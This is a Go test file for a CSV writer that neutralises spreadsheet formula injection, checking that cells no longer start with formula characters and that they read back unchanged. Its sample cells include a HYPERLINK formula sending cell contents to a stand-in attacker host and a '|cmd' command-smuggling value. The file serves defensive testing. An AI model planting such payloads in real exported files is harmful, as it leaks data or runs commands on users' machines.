package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/datacite-go/datacite-go/internal/sheet"
)

// A text of a stranger is no formula in a spreadsheet, and is read back as it was.
func TestFormulasAreDefused(t *testing.T) {
	cells := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1",
		"'=1+1", "''-x", "'quoted'", "'", "a=b", "10.5072/a", "", "−5", "1-2",
	}
	var out bytes.Buffer
	w := sheet.NewCSVWriter(&out)
	require.NoError(t, w.Write(cells))
	w.Flush()
	assert.Equal(t, 7, w.Defused)
	shown, err := csv.NewReader(strings.NewReader(out.String())).Read()
	require.NoError(t, err)
	for _, cell := range shown {
		assert.NotRegexp(t, `^[=+@\t\r-]`, cell)
	}
	read, err := sheet.NewReader("t", &out).Read()
	require.NoError(t, err)
	assert.Equal(t, cells, read)
}

func FuzzFormulas(f *testing.F) {
	f.Add("=1")
	f.Add("''-")
	f.Fuzz(func(t *testing.T, a string) {
		if a = strings.ToValidUTF8(a, ""); strings.ContainsAny(a, "\x00\r") || len(a) > 1000 {
			return // CSV has no lone line ends of its own
		}
		var out bytes.Buffer
		w := sheet.NewCSVWriter(&out)
		require.NoError(t, w.Write([]string{"x", a}))
		w.Flush()
		assert.NotRegexp(t, `,"?[=+@-]`, out.String()[:min(4, out.Len())])
		read, err := sheet.NewReader("t", &out).Read()
		require.NoError(t, err)
		assert.Equal(t, []string{"x", a}, read)
	})
}
